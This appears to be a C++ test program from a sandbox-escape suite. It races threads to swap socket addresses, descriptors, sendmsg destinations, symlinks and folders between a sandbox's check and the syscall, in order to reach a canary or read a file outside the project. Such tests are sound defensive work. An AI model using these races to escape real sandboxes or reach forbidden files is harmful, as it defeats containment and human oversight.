// Two threads: one makes the same call again and again, the other changes what it is about. Whoever
// judges a call by looking at the program's memory, descriptors or paths first can be deceived.

#include <fcntl.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <thread>

#include "tests/escape/programs/escape.hpp"

namespace escape {
namespace {

using Clock = std::chrono::steady_clock;

// Runs `change` in a thread beside `act` until that escapes or the time is over.
template <class Change, class Act>
Outcome race(const Attempt& attempt, Change change, Act act) {
  const auto length = std::chrono::milliseconds(attempt.where.number("race-ms"));
  std::atomic<bool> over{false};
  std::thread changer([&] {
    while (!over.load(std::memory_order_relaxed)) change();
  });
  const Clock::time_point until = Clock::now() + length;
  long tries = 0;
  bool won = false;
  while (!won && Clock::now() < until) {
    won = act();
    ++tries;
  }
  over = true;
  changer.join();
  return {won, std::to_string(tries) + " tries"};
}

// Somewhere harmless: the sandbox's proxy if there is one.
sockaddr_in harmless(const Attempt& attempt) {
  sockaddr_in address = attempt.where.v4("tcp4");
  address.sin_port = htons(9);  // where nobody listens
  const char* proxy = std::getenv("HTTP_PROXY");
  if (proxy == nullptr) return address;
  const std::string place = proxy;
  const std::size_t colon = place.rfind(':');
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  address.sin_port = htons(static_cast<in_port_t>(std::atoi(place.c_str() + colon + 1)));
  return address;
}

// One byte of the address differs at a time, as a program would write it.
void put(volatile sockaddr_in& place, const sockaddr_in& address) {
  place.sin_port = address.sin_port;
  place.sin_addr.s_addr = address.sin_addr.s_addr;
}

// True when the canary is who answered: it was told.
bool told(int socket, const sockaddr_in& canary, const std::string& message) {
  sockaddr_in peer = {};
  socklen_t size = sizeof peer;
  if (::getpeername(socket, const_cast<sockaddr*>(generic(peer)), &size) != 0) return false;
  if (peer.sin_port != canary.sin_port || peer.sin_addr.s_addr != canary.sin_addr.s_addr) {
    return false;
  }
  return tell(socket, message).escaped;
}

Outcome flips_address(const Attempt& attempt) {
  const sockaddr_in allowed = harmless(attempt);
  const sockaddr_in canary = attempt.where.v4("tcp4");
  sockaddr_in shared = allowed;
  return race(
      attempt,
      [&] {
        put(shared, canary);
        put(shared, allowed);
      },
      [&] {
        const UniqueFd socket(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
        return ::connect(socket.get(), generic(shared), sizeof shared) == 0 &&
               told(socket.get(), canary, attempt.message);
      });
}

// The number that connect() is given stands now for a TCP socket, now for a datagram socket.
Outcome flips_descriptor(const Attempt& attempt) {
  const sockaddr_in canary = attempt.where.v4("udp4");
  const UniqueFd stream(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  const UniqueFd datagram(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  if (!stream || !datagram) return blocked("socket");
  const UniqueFd shared(::fcntl(stream.get(), F_DUPFD_CLOEXEC, 100));
  return race(
      attempt,
      [&] {
        ::dup3(datagram.get(), shared.get(), O_CLOEXEC);
        ::dup3(stream.get(), shared.get(), O_CLOEXEC);
      },
      [&] {
        ::connect(shared.get(), generic(canary), sizeof canary);
        return ::send(datagram.get(), attempt.message.data(), attempt.message.size(),
                      MSG_NOSIGNAL | MSG_DONTWAIT) > 0;
      });
}

// A datagram's address, in the message that sendmsg() points to.
Outcome flips_message(const Attempt& attempt) {
  const sockaddr_in allowed = harmless(attempt);
  const sockaddr_in canary = attempt.where.v4("udp4");
  sockaddr_in shared = allowed;
  const UniqueFd socket(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  if (!socket) return blocked("socket");
  std::string message = attempt.message;
  iovec part = {message.data(), message.size()};
  msghdr header = {};
  header.msg_name = &shared;
  header.msg_namelen = sizeof shared;
  header.msg_iov = &part;
  header.msg_iovlen = 1;
  long sent = 0;
  constexpr long enough = 100'000;  // some of them went to the canary, if they could
  return race(
      attempt,
      [&] {
        put(shared, canary);
        put(shared, allowed);
      },
      [&] { return ::sendmsg(socket.get(), &header, MSG_NOSIGNAL) > 0 && ++sent > enough; });
}

bool reads_secret(const Attempt& attempt, const std::string& path, std::string& found) {
  const std::string text = read_file(path);
  if (text.empty() || text.starts_with("harmless")) return false;
  found = text;
  (void)attempt;
  return true;
}

// A link that points now into the project, now out of it.
Outcome flips_link(const Attempt& attempt) {
  const std::string secret = attempt.where.text("outside") + "/secret";
  if (!write_file("harmless", "harmless")) return blocked("create");
  std::string found;
  Outcome outcome = race(
      attempt,
      [&] {
        (void)!::symlink("harmless", "flipping-new");
        ::rename("flipping-new", "flipping");
        (void)!::symlink(secret.c_str(), "flipping-new");
        ::rename("flipping-new", "flipping");
      },
      [&] { return reads_secret(attempt, "flipping", found); });
  return outcome.escaped ? reached(found) : outcome;
}

// A folder on the way that is now a folder, now a link out.
Outcome flips_folder(const Attempt& attempt) {
  ::mkdir("folder", 0755);
  if (!write_file("folder/secret", "harmless")) return blocked("create");
  ::unlink("folder-link");
  if (::symlink(attempt.where.text("outside").c_str(), "folder-link") != 0) {
    return blocked("symlink");
  }
  constexpr unsigned exchange = 2;
  std::string found;
  Outcome outcome = race(
      attempt,
      [&] { ::syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "folder-link", exchange); },
      [&] { return reads_secret(attempt, "folder/secret", found); });
  return outcome.escaped ? reached(found) : outcome;
}

}  // namespace

Family race_family() {
  return {
      {"race-address", Proof::hit, flips_address},
      {"race-descriptor", Proof::hit, flips_descriptor},
      {"race-message", Proof::hit, flips_message},
      {"race-link", Proof::read, flips_link},
      {"race-folder", Proof::read, flips_folder},
  };
}

}  // namespace escape
